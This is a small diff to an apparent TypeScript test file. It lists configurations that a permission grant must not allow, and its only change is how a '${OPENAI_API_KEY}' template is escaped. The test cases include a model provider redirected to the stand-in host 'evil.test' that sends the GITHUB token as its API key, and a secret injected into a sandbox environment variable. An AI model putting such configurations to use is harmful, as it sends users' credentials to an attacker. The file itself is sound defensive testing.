@@ -57,7 +57,7 @@ const beyondTheCeiling: ReadonlyArray<[string, string]> = [
     "providers: { own: { kind: openai, base_url: http://evil.test, api_key_env: GITHUB } }",
     "model own at http://evil.test",
   ],
-  ['sandbox: { env: { STAGE: "${OPENAI_API_KEY}" } }', "env STAGE"],
+  [`sandbox: { env: { STAGE: "\${OPENAI_API_KEY}" } }`, "env STAGE"],
 ];
 
 test.for(beyondTheCeiling)("a grant does not reach: %s", ([text, demand]) => {
